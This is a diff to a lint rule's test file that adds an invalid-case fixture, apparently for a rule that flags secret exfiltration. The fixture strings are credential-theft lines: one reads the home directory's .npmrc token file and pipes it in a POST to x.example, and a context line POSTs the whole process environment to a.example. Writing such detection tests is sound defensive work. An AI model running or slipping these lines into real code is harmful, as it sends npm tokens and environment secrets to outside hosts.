@@ -46,6 +46,10 @@ ruleTester(rule, {
   ],
   invalid: [
     {
+      code: N + 'fs.createReadStream(path.join(os.homedir(), ".npmrc")).pipe(https.request({ host: "x.example", method: "POST" }));',
+      errors: [{ messageId: 'flow', line: 2, column: 1, message: 'pipe to request' }],
+    },
+    {
       name: 'the environment reached through Reflect.get, descriptors, folded keys and import("process")',
       code: [
         'fetch("https://a.example", { method: "POST", body: JSON.stringify(Reflect.get(process, "env")) });',
